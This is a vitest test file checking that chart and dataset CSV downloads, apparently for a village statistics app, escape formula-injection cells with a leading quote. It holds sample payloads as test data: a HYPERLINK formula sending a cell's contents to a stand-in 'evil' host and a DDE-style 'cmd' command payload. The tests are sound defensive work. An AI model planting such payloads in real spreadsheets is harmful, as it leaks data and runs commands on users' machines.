// CSV downloads never carry a live formula (contract §2, Pages; OWASP CSV injection): a text cell
// starting with = + - @ tab or CR gets a leading ', numbers (negative ones too) stay numbers.
import { csvParseRows } from 'd3-dsv';
import { expect, test } from 'vitest';
import { chartCsv, csvText } from '../../src/charts/csv.ts';
import { chartData } from '../../src/charts/rows.ts';
import type { ChartSpec } from '../../src/charts/types.ts';
import { datasetCsv } from '../../src/outputs/datasetCsv.ts';
import { csv, load } from '../data/helpers.ts';

const EVIL = '=HYPERLINK("http://evil/?"&A2,"点击")';

test('csvText protects formula starts and keeps numbers and ordinary text', () => {
  expect(csvText(EVIL)).toBe(`'${EVIL}`);
  expect(csvText('@SUM(1)')).toBe("'@SUM(1)");
  expect(csvText('+cmd|" /C calc"!A0')).toBe(`'+cmd|" /C calc"!A0`);
  expect(csvText('-2+3')).toBe("'-2+3");
  expect(csvText('\t=1+1')).toBe("'\t=1+1"); // the tab is kept behind the quote, not trimmed
  expect(csvText('\r=1+1')).toBe("'\r=1+1");
  expect(csvText('-2')).toBe('-2');
  expect(csvText('-3.5')).toBe('-3.5');
  expect(csvText('长塘村')).toBe('长塘村');
  expect(csvText('a=b')).toBe('a=b');
  expect(csvText('')).toBe('');
});

/** The cells of a downloaded CSV as Excel reads them (BOM removed). */
function cells(text: string): string[][] {
  expect(text.startsWith('\ufeff')).toBe(true);
  return csvParseRows(text.slice(1).replace(/\r\n$/, '').replaceAll('\r\n', '\n'));
}

test('chart CSV: category names and series names starting with = + - @ are text', () => {
  const spec: ChartSpec = {
    id: 'injection',
    title: 't',
    kind: 'bar',
    x: { key: 'name', label: '村名', type: 'category' },
    color: { key: 'kind', label: '类别', type: 'category' },
    y: { key: 'v', label: '数值', type: 'number', unit: '吨' },
    rows: [
      { name: EVIL, kind: '@SUM(1)', v: 2 },
      { name: '-2+3', kind: '+1+1', v: -2 },
    ],
  } as unknown as ChartSpec;
  const rows = cells(chartCsv(spec, chartData(spec)));
  const body = rows.slice(1);
  expect(body).toContainEqual([`'${EVIL}`, "'@SUM(1)", '2']);
  expect(body).toContainEqual(["'-2+3", "'+1+1", '-2']);
});

test('dataset CSV: village names, notes and free-dataset text are text; numbers stay numbers', () => {
  const villages = csv(
    '编号,村名,乡镇,户数,人口,备注',
    `v1,"${EVIL.replaceAll('"', '""')}",洋江镇,100,400,@SUM(1)`,
    'v2,前江村,洋江镇,100,400,-2+3',
  );
  const free = csv('项目,数量,说明', '=1+1,-5,+cmd', '"\t=2",3,@x');
  const { tables } = load({ villages, 'free-things': free });
  const v = cells(datasetCsv(tables, tables.villages));
  expect(v[1]).toContain(`'${EVIL}`);
  expect(v[1]).toContain("'@SUM(1)");
  expect(v[2]).toContain("'-2+3");
  const f = cells(datasetCsv(tables, tables.free[0]!));
  expect(f[1]).toEqual(["'=1+1", '-5', "'+cmd"]);
  expect(f[2]![2]).toBe("'@x");
  expect(f[2]![0]).toMatch(/^'/);
  // nothing anywhere starts a formula
  for (const row of [...v, ...f]) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
});
